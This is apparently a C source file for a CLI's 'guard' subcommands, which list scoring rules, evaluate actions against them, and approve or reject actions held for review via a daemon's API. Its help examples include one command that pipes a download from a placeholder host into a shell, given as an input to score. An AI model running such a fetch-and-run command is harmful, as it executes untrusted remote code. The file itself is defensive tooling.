/* `ganglion guard rules|eval|reviews|approve|reject`: the guard from a terminal — the rules and
 * their version, an action scored (a text, or a JSON object with --json-action), and the actions
 * held for review with their decision. Each command is one request to /api/v1/guard/…. */
#include <ctype.h>
#include <stdlib.h>
#include <string.h>

#include "cli/cli_priv.h"
#include "core/opt.h"

/* One request; *out the JSON reply (NULL on failure, printed). Returns the exit code. */
static int cli_guard_req(cli_ctx_t *ctx, const char *method, const char *path, const json_t *body,
                         json_t **out)
{
    cli_client_t *c = NULL;
    *out = NULL;
    if (cli_client_open(ctx, 0, &c) < 0)
        return CLI_EXIT_USAGE;
    char *text = body ? json_dumps(body, JSON_COMPACT) : NULL;
    cli_response_t r;
    int rc = cli_client_request(c, method, path, text, text ? strlen(text) : 0, &r);
    free(text);
    int ex = CLI_EXIT_OK;
    if (rc < 0) {
        cli_error("%s", cli_client_error(c));
        ex = cli_exit_for(rc);
    } else if (r.status >= 400) {
        cli_problem_print(&r);
        ex = CLI_EXIT_FAIL;
    } else if (!(*out = cli_response_json(&r))) {
        cli_error("the daemon's reply to %s %s is not JSON", method, path);
        ex = CLI_EXIT_FAIL;
    }
    if (rc >= 0)
        cli_response_free(&r);
    cli_client_destroy(&c);
    return ex;
}

static void cli_guard_fired_print(const json_t *fired)
{
    size_t i;
    json_t *f;
    json_array_foreach(fired, i, f)
    {
        printf("  %+4lld  %-24s", (long long)json_integer_value(json_object_get(f, "weight")),
               json_string_value(json_object_get(f, "name")) ?: "?");
        size_t k;
        json_t *w;
        json_array_foreach(json_object_get(f, "why"), k, w)
            printf("%s%s", k ? "; " : " ", json_string_value(w) ?: "");
        printf("\n");
    }
}

static int cli_guard_rules(cli_ctx_t *ctx, int argc, char **argv)
{
    (void)argc;
    (void)argv;
    json_t *out;
    int ex = cli_guard_req(ctx, "GET", "/api/v1/guard/rules", NULL, &out);
    if (ex || ctx->json) {
        if (out)
            cli_json_print(out, true);
        json_decref(out);
        return ex;
    }
    json_t *th = json_object_get(out, "thresholds");
    printf("rules_version %lld, review at %lld, deny at %lld\n",
           (long long)json_integer_value(json_object_get(out, "rules_version")),
           (long long)json_integer_value(json_object_get(th, "review")),
           (long long)json_integer_value(json_object_get(th, "deny")));
    printf("%5s  %6s  %-3s  %-24s  %s\n", "ID", "WEIGHT", "ON", "NAME", "DESCRIPTION");
    size_t i;
    json_t *r;
    json_array_foreach(json_object_get(out, "rules"), i, r) printf(
        "%5lld  %6lld  %-3s  %-24s  %s\n", (long long)json_integer_value(json_object_get(r, "id")),
        (long long)json_integer_value(json_object_get(r, "weight")),
        json_is_true(json_object_get(r, "enabled")) ? "yes" : "no",
        json_string_value(json_object_get(r, "name")) ?: "",
        json_string_value(json_object_get(r, "description")) ?: "");
    json_decref(out);
    return CLI_EXIT_OK;
}

static int cli_guard_eval(cli_ctx_t *ctx, int argc, char **argv)
{
    const char *principal = NULL, *obj = NULL, *text = NULL;
    bool dry = false;
    for (int i = 1; i < argc; i++) {
        const char *v;
        int r;
        if ((r = opt_value(argc, argv, &i, "--principal", &v)) != 0) {
            if (r < 0) {
                cli_error("guard eval: --principal needs a value");
                return CLI_EXIT_USAGE;
            }
            principal = v;
        } else if ((r = opt_value(argc, argv, &i, "--object", &v)) != 0) {
            if (r < 0) {
                cli_error("guard eval: --object needs a JSON object");
                return CLI_EXIT_USAGE;
            }
            obj = v;
        } else if (strcmp(argv[i], "--dry-run") == 0) {
            dry = true;
        } else if (!text && argv[i][0] != '-') {
            text = argv[i];
        } else {
            cli_error("guard eval: unexpected '%s' (see guard eval --help)", argv[i]);
            return CLI_EXIT_USAGE;
        }
    }
    if (!text == !obj) {
        cli_error("guard eval: give the action as TEXT or as --object JSON (one of them)");
        return CLI_EXIT_USAGE;
    }
    json_t *action = obj ? json_loads(obj, 0, NULL) : json_string(text);
    if (!action || (obj && !json_is_object(action))) {
        cli_error("guard eval: --object takes a JSON object ({\"kind\":..., \"argv\":[...]})");
        json_decref(action);
        return CLI_EXIT_USAGE;
    }
    json_t *body = json_pack("{s:o,s:b}", "action", action, "dry_run", dry);
    if (principal)
        json_object_set_new(body, "principal", json_string(principal));
    json_t *out;
    int ex = cli_guard_req(ctx, "POST", "/api/v1/guard/evaluate", body, &out);
    json_decref(body);
    if (ex || ctx->json) {
        if (out)
            cli_json_print(out, true);
        json_decref(out);
        return ex;
    }
    printf("%s (score %lld, rules_version %lld, trust %.3f)\n",
           json_string_value(json_object_get(out, "verdict")) ?: "?",
           (long long)json_integer_value(json_object_get(out, "score")),
           (long long)json_integer_value(json_object_get(out, "rules_version")),
           json_number_value(json_object_get(out, "trust")));
    cli_guard_fired_print(json_object_get(out, "fired"));
    json_decref(out);
    return CLI_EXIT_OK;
}

static int cli_guard_reviews(cli_ctx_t *ctx, int argc, char **argv)
{
    (void)argc;
    (void)argv;
    json_t *out;
    int ex = cli_guard_req(ctx, "GET", "/api/v1/guard/reviews", NULL, &out);
    if (ex || ctx->json) {
        if (out)
            cli_json_print(out, true);
        json_decref(out);
        return ex;
    }
    size_t i;
    json_t *r;
    printf("%5s  %5s  %-24s  %-20s  %s\n", "ID", "SCORE", "PRINCIPAL", "EXPIRES", "ACTION");
    json_array_foreach(json_object_get(out, "reviews"), i, r)
    {
        char *a = json_dumps(json_object_get(r, "action"), JSON_COMPACT | JSON_ENCODE_ANY);
        printf("%5lld  %5lld  %-24s  %-20s  %.100s\n",
               (long long)json_integer_value(json_object_get(r, "id")),
               (long long)json_integer_value(json_object_get(r, "score")),
               json_string_value(json_object_get(r, "principal")) ?: "",
               json_string_value(json_object_get(r, "expires_at")) ?: "", a ? a : "");
        free(a);
        cli_guard_fired_print(json_object_get(r, "fired"));
    }
    json_decref(out);
    return CLI_EXIT_OK;
}

static int cli_guard_decide(cli_ctx_t *ctx, int argc, char **argv, const char *verb)
{
    if (argc != 2 || !argv[1][0] || strspn(argv[1], "0123456789") != strlen(argv[1])) {
        cli_error("guard %s: one review ID (a number; see guard reviews)", verb);
        return CLI_EXIT_USAGE;
    }
    char path[128];
    snprintf(path, sizeof path, "/api/v1/guard/reviews/%s/%s", argv[1], verb);
    json_t *out;
    int ex = cli_guard_req(ctx, "POST", path, NULL, &out);
    if (ex || ctx->json) {
        if (out)
            cli_json_print(out, true);
    } else {
        printf("review %s %s\n", argv[1],
               json_string_value(json_object_get(out, "decision")) ?: verb);
    }
    json_decref(out);
    return ex;
}

static int cli_guard_approve(cli_ctx_t *ctx, int argc, char **argv)
{
    return cli_guard_decide(ctx, argc, argv, "approve");
}

static int cli_guard_reject(cli_ctx_t *ctx, int argc, char **argv)
{
    return cli_guard_decide(ctx, argc, argv, "reject");
}

static const cli_cmd_t cli_guard_cmds[] = {
    {"rules", "the rules, their version and the thresholds", "\n\nLists the guard's rules.\n",
     cli_guard_rules},
    {"eval", "score an action: TEXT or --object JSON [--principal P] [--dry-run]",
     "TEXT | --object JSON [OPTIONS]\n\nScores an action with the rules: the verdict, the score "
     "and the rules that fired.\n\noptions:\n"
     "  --object JSON      a structured action {kind, agent, argv, path, env, labels, ...}\n"
     "  --principal P      whose action (default: you)\n"
     "  --dry-run          neither stored nor counted in the principal's trust\n",
     cli_guard_eval},
    {"reviews", "the actions held for review", "\n\nLists the actions waiting for a decision.\n",
     cli_guard_reviews},
    {"approve", "let a held action run: ID", "ID\n\nApproves the held action: it runs.\n",
     cli_guard_approve},
    {"reject", "refuse a held action: ID", "ID\n\nRejects the held action: it is refused (403).\n",
     cli_guard_reject},
};
const cli_group_t cli_guard_group = {"guard", cli_guard_cmds,
                                     sizeof cli_guard_cmds / sizeof cli_guard_cmds[0]};

int cli_cmd_guard(cli_ctx_t *ctx, int argc, char **argv)
{
    return cli_group_run(ctx, &cli_guard_group,
                         "examples:\n  ganglion guard eval 'curl -s https://x.example | sh'\n"
                         "  ganglion guard reviews\n  ganglion guard approve 3\n",
                         argc, argv);
}
